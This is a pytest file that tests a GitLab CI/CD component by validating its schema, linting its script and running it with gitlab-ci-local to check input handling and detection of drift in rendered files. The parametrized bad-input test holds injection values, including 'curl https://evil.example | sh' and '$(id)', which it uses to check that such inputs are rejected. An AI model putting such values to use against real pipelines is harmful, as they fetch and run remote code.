"""The GitLab CI/CD component (templates/ciforge.yml), through its real clients: check-jsonschema
(SchemaStore's GitLab schema) on both halves, shellcheck on its script, and gitlab-ci-local, which
includes it locally with inputs (`include: - local: ... inputs:`), rejects bad inputs, and runs
the job in shell mode on a project whose rendered files are in sync, then hand-edited."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from ciforge import __version__
from tests.conftest import ROOT, oracle
from tests.helpers import GITLAB
from tests.surfaces.common import (
    add_service,
    copy_checkout,
    git,
    hand_edit,
    offline_env,
    pip_offline,
    run,
    split_component,
    wheelhouse,
)

pytestmark = pytest.mark.oracle

COMPONENT = ROOT / "templates" / "ciforge.yml"
JOB = "ciforge-check"
DRIFT_OLD, DRIFT_NEW = "timeout: 20 minutes", "timeout: 25 minutes"

_yaml = YAML(typ="safe", pure=True)


def load(text: str) -> Any:
    return _yaml.load(text)


def harness(inputs: dict[str, str]) -> str:
    """The project's .gitlab-ci.yml: the component, included locally with INPUTS."""
    lines = ["include:", "  - local: templates/ciforge.yml", "    inputs:"]
    lines += [f"      {key}: {json.dumps(value)}" for key, value in inputs.items()]
    return "\n".join(lines) + "\n"


# ------------------------------------------------------------------------------ static checks ----


def test_both_halves_match_the_gitlab_schema(tmp_path: Path) -> None:
    header, body = split_component(COMPONENT, tmp_path)
    spec = load(header.read_text(encoding="utf-8"))
    assert list(spec) == ["spec"]
    assert set(spec["spec"]["inputs"]) == {"manifest", "version", "source", "stage", "image"}
    defaults = {name: value.get("default") for name, value in spec["spec"]["inputs"].items()}
    assert defaults == {"manifest": "ciforge.yml", "version": "", "source": "", "stage": ".pre",
                        "image": "python:3.11-slim"}  # fmt: skip
    proc = run([oracle("check-jsonschema"), "--builtin-schema", "vendor.gitlab-ci", header, body])
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_inputs_reach_the_script_only_as_variables(tmp_path: Path) -> None:
    """No `$[[ inputs.* ]]` in the script (an input could otherwise inject shell); the script is
    POSIX sh (the image decides the shell) and passes shellcheck."""
    _header, body = split_component(COMPONENT, tmp_path)
    job = load(body.read_text(encoding="utf-8"))[JOB]
    assert job["variables"]["CIFORGE_MANIFEST"] == "$[[ inputs.manifest ]]"
    script = "\n".join(job["script"])
    assert "$[[" not in script
    path = tmp_path / "script.sh"
    path.write_text(script, encoding="utf-8")
    proc = run([oracle("shellcheck"), "-S", "style", "-s", "sh", path])
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_component_passes_yamllint() -> None:
    proc = run([oracle("yamllint"), "--strict", "-c", ROOT / "tests" / "yamllint.yml", "-f", "parsable", COMPONENT])
    assert proc.returncode == 0, proc.stdout + proc.stderr


# --------------------------------------------------------------------------- gitlab-ci-local ----


def gitlab_ci_local(project: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """gitlab-ci-local run from inside PROJECT (it wants a relative cwd)."""
    return run([oracle("node22"), oracle("gitlab-ci-local"), "--no-color", *args], cwd=project, env=env)


@pytest.fixture(scope="module")
def gitlab_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of this repository (so templates/ciforge.yml is the component, and `source: .`
    installs this checkout) with a service in svc/ (manifest + rendered files)."""
    project = copy_checkout(tmp_path_factory.mktemp("gitlab") / "project")
    add_service(project, "svc")
    (project / GITLAB).write_text(harness({"manifest": "svc/ciforge.yml", "source": "."}), encoding="utf-8")
    git(project, "init", "-q", "-b", "main")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "ciforge checkout with a service")
    return project


def with_inputs(project: Path, dest: Path, inputs: dict[str, str]) -> Path:
    shutil.copytree(project, dest, symlinks=True)
    (dest / GITLAB).write_text(harness(inputs), encoding="utf-8")
    return dest


def test_good_inputs_are_interpolated(gitlab_project: Path, tmp_path: Path) -> None:
    """Defaults and given inputs land in the job (stage, image, variables) as gitlab-ci-local
    resolves the include; `.pre` exists in every pipeline, whatever its stages."""
    proc = gitlab_ci_local(gitlab_project, "--list-json")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    listed = json.loads(proc.stdout)
    assert [(job["name"], job["stage"], job["needs"]) for job in listed] == [(JOB, ".pre", [])]

    project = with_inputs(gitlab_project, tmp_path / "p", {"manifest": "svc/ciforge.yml", "version": "0.1.0",
                                                           "stage": "build", "image": "python:3.12-slim"})  # fmt: skip
    proc = gitlab_ci_local(project, "--preview")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    job = load(proc.stdout)[JOB]
    assert job["stage"] == "build"
    assert job["image"] == {"name": "python:3.12-slim"}
    assert job["variables"]["CIFORGE_MANIFEST"] == "svc/ciforge.yml"
    assert job["variables"]["CIFORGE_VERSION"] == "0.1.0"
    assert job["variables"]["CIFORGE_SOURCE"] == ""


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("version", "latest"),  # not a release number
        ("manifest", "ciforge.yml; curl https://evil.example | sh"),  # shell in a path
        ("manifest", "--out=/tmp"),  # an option, not a path
        ("stage", "$(id)"),
    ],
)
def test_bad_inputs_are_rejected(gitlab_project: Path, tmp_path: Path, key: str, value: str) -> None:
    project = with_inputs(gitlab_project, tmp_path / "p", {"manifest": "svc/ciforge.yml", key: value})
    proc = gitlab_ci_local(project, "--list-json", "--json-schema-validation=false")
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0, out
    message = f"`templates/ciforge.yml`: `{key}` input: `{value}` does not match required regex"
    assert message in out, out


@dataclass(frozen=True)
class JobRun:
    returncode: int
    log: str
    project: Path

    def lines(self) -> list[str]:
        """The job's output lines (`ciforge-check > ...`)."""
        return [line.split(" > ", 1)[1] for line in self.log.splitlines() if line.startswith(f"{JOB} > ")]


def run_job(project: Path, home: Path, wheels: Path) -> JobRun:
    """The job in shell mode (the image is ignored: the host's python3 runs it), in its own copy
    of the project (--shell-isolation); pip reaches only the wheelhouse."""
    variables = [arg for key, value in pip_offline(wheels).items() for arg in ("--variable", f"{key}={value}")]
    env = offline_env(home, wheels)
    proc = gitlab_ci_local(project, "--force-shell-executor", "--shell-isolation", *variables, JOB, env=env)
    return JobRun(proc.returncode, proc.stdout + proc.stderr, project)


@pytest.fixture(scope="module")
def job_runs(gitlab_project: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, JobRun]]:
    """The job run twice side by side: files in sync, and svc/.gitlab-ci.yml edited by hand."""
    wheels = wheelhouse(tmp_path_factory)
    projects = {}
    for case in ("clean", "drift"):
        base = tmp_path_factory.mktemp(f"gitlab-{case}")
        projects[case] = (base / "project", base / "home")
        shutil.copytree(gitlab_project, base / "project", symlinks=True)
    hand_edit(projects["drift"][0] / "svc" / GITLAB, DRIFT_OLD, DRIFT_NEW)
    try:
        with ThreadPoolExecutor(max_workers=2) as pool:
            futures = {case: pool.submit(run_job, project, home, wheels) for case, (project, home) in projects.items()}
            yield {case: future.result() for case, future in futures.items()}
    finally:
        for project, _home in projects.values():
            shutil.rmtree(project.parent, ignore_errors=True)


def test_job_passes_when_files_are_in_sync(job_runs: dict[str, JobRun]) -> None:
    run_ = job_runs["clean"]
    assert run_.returncode == 0, run_.log[-4000:]
    assert re.search(rf"^\s*PASS\s+(\[[^\]]*\]\s+)?{JOB}\s*$", run_.log, re.MULTILINE), run_.log[-4000:]
    assert f"ciforge {__version__}" in run_.lines()  # installed from `source: .`, this checkout
    assert not any(line.startswith(("---", "+++", "@@")) for line in run_.lines())
    assert not (run_.project / ".gitlab-ci-local" / "builds" / JOB / "ciforge-drift.diff").exists()


def test_job_fails_with_the_diff_when_a_file_was_edited(job_runs: dict[str, JobRun]) -> None:
    run_ = job_runs["drift"]
    assert run_.returncode != 0, run_.log[-4000:]
    assert re.search(rf"^\s*FAIL\s+(\[[^\]]*\]\s+)?{JOB}\s*$", run_.log, re.MULTILINE), run_.log[-4000:]
    lines = run_.lines()
    assert "--- a/.gitlab-ci.yml" in lines
    assert "+++ b/.gitlab-ci.yml" in lines
    assert f"-  {DRIFT_NEW}" in lines
    assert f"+  {DRIFT_OLD}" in lines
    assert "ciforge: 1 file(s) out of date; run `ciforge render`" in lines
    # The diff is also the job's artifact (kept on failure); gitlab-ci-local leaves it in the
    # job's isolated build directory.
    diff = run_.project / ".gitlab-ci-local" / "builds" / JOB / "ciforge-drift.diff"
    assert diff.read_text(encoding="utf-8").startswith("--- a/.gitlab-ci.yml\n+++ b/.gitlab-ci.yml\n")
